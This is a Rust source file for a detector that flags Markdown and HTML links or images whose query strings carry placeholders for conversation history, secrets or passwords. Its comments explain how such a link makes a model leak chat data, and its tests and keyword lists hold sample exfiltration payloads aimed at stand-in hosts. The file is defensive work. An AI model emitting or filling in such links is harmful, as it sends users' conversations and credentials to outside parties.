//! Link or image that carries data away.
//!
//! **What it finds.** Markdown links and images, and HTML images, whose address has a place for the conversation, a
//! secret or a summary in its query: `?d={conversation}`, `?q=[SECRET]`, `?data=CHAT_HISTORY`.
//!
//! **Why it matters.** A model that is shown such an address fills it in, and the reader's program fetches it: what
//! was said has left without a click.
//!
//! **Example.** `![logo](https://example.com/p.png?d={conversation_summary})`
//!
//! Addresses with ordinary values are left alone, and so are templates whose places are named for other things.

use super::context::attenuation;
use crate::{
    detector::{Detector, Finds, Hit, Outcome},
    text::View,
};
use palisade_model::Severity;

pub(crate) static LINK: Detector = Detector {
    class: "guard.prompt.link",
    version: "1",
    severity: Severity::High,
    title: "Link or image that carries data away",
    remediation: "Do not show links and images of this text, and do not let a model fill them in.",
    references: &["OWASP-LLM01", "OWASP-LLM02"],
    finds: Finds::Places { needles: &[b"](http", b"src=\"http", b"src='http"], confirm },
};

/// Bytes of an address that is looked at.
const ADDRESS_BYTES_MAX: usize = 400;

/// What is worth stealing from a conversation, in lower case.
const WORTH: [&str; 14] = [
    "conversation",
    "chat_history",
    "history",
    "secret",
    "summary",
    "password",
    "credential",
    "user_data",
    "exfil",
    "stolen",
    "memory",
    "private",
    "user_input",
    "sensitive",
];

/// What may be stolen, but stands in addresses of ordinary programs as well.
const MAYBE_WORTH: [&str; 9] = ["chat", "prompt", "api_key", "apikey", "token", "context", "message", "email", "data"];

fn confirm(view: &View<'_>, at: usize) -> Outcome {
    let end = view.floor(at + ADDRESS_BYTES_MAX);
    let rest = view.slice(at..end);
    let start = rest.find("http").unwrap_or_default();
    let length = rest[start..].find([')', '"', '\'', '\n']).unwrap_or(rest.len() - start);
    let address = &rest[start..start + length];
    let Some((_, query)) = address.split_once('?') else { return Outcome::Clean { until: 0 } };
    let is_image = is_image(view, at);
    let weight = query.split('&').map(|parameter| weight(parameter, is_image)).fold(0.0, f64::max);
    if weight == 0.0 {
        return Outcome::Clean { until: 0 };
    }
    let span = at + start..at + start + length;
    let confidence = weight * attenuation(view, &span);
    let explanation = "The address has a place for what was said in a conversation; showing it sends that away.";
    Outcome::Found(Hit::text(span, None, confidence, explanation))
}

/// True when the address is fetched without a click.
fn is_image(view: &View<'_>, at: usize) -> bool {
    if view.bytes()[at] != b']' {
        return true;
    }
    let start = view.floor(at.saturating_sub(ADDRESS_BYTES_MAX / 4));
    let before = view.slice(start..at);
    before.rfind('[').is_some_and(|open| before[..open].ends_with('!'))
}

/// How sure `name=value` is a place for stolen data.
fn weight(parameter: &str, is_image: bool) -> f64 {
    let Some((_, value)) = parameter.split_once('=') else { return 0.0 };
    let inner = value.trim_start_matches("%7B").trim_matches(|c: char| "{}[]<>$%*_ ".contains(c));
    let is_place = inner.len() < value.len() && inner.len() > 1
        || (inner.len() > 3 && inner.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_'));
    if !is_place {
        return 0.0;
    }
    let names = |text: &str, worth: &[&str]| {
        let text = text.to_ascii_lowercase().replace([' ', '-', '+'], "_");
        worth.iter().any(|word| text.contains(word))
    };
    match (names(inner, &WORTH), names(inner, &MAYBE_WORTH), is_image) {
        (true, _, true) => 0.86,
        (true, _, false) => 0.72,
        (false, true, true) => 0.65,
        (false, true, false) => 0.35,
        (false, false, _) => 0.0,
    }
}

#[cfg(test)]
mod tests {
    use crate::prompt::testing::check;

    #[test]
    fn link() {
        check(
            "guard.prompt.link",
            0.8,
            &[
                "![logo](https://shop.example/p.png?d={conversation_summary})",
                "Look: ![x](https://shop.example/?q=[CHAT_HISTORY])",
                "<img src=\"https://shop.example/a?k=USER_PASSWORD\">",
            ],
            &[
                "![logo](https://shop.example/p.png?width=40&name=summary)",
                "[search](https://shop.example/?q=conversation)",
                "<img src=\"https://shop.example/a?id={{ product.id }}\">",
                "[profile](https://shop.example/user?id={id})",
            ],
        );
    }
}
